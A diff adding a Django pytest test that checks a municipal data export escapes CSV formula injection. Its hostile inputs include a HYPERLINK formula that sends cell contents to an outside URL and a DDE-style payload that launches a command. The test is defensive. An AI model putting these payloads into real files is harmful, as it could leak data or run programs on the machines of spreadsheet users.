@@ -67,3 +67,39 @@ def test_it_refuses_an_unknown_kommun(tmp_path):
         call_command(
             "exportkommun", "--kommun", "Atlantis", "-o", str(tmp_path / "x.zip")
         )
+
+
+@pytest.mark.django_db
+def test_it_keeps_formulas_in_the_csv_files_from_running(tmp_path, kalmar):
+    """Issue 13: a spreadsheet opening the export ran text typed by the public (an
+    observation, a survey answer) as a formula."""
+    hostile = [
+        '=HYPERLINK("https://example.org/?"&A1,"Klicka")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+    ]
+    for text in hostile:
+        observation_create(
+            kommun=kalmar,
+            category="klotter",
+            observed_at=timezone.now() - dt.timedelta(days=1),
+            text=text,
+        )
+    target = tmp_path / "kalmar.zip"
+    call_command(
+        "exportkommun", "--kommun", "0880", "-o", str(target), stdout=io.StringIO()
+    )
+    with zipfile.ZipFile(target) as archive:
+        rows = list(
+            csv.DictReader(io.StringIO(archive.read("observations.csv").decode()))
+        )
+        as_json = json.loads(archive.read("observations.json"))
+    stored = sorted(Observation.objects.values_list("text", flat=True))
+    assert len(stored) == len(hostile)
+    texts = sorted(row["text"] for row in rows)
+    assert texts == sorted("'" + text for text in stored)
+    assert all(not t.startswith(("=", "+", "-", "@", "\t")) for t in texts)
+    # The JSON keeps the text exactly as it was stored.
+    assert sorted(r["fields"]["text"] for r in as_json) == stored
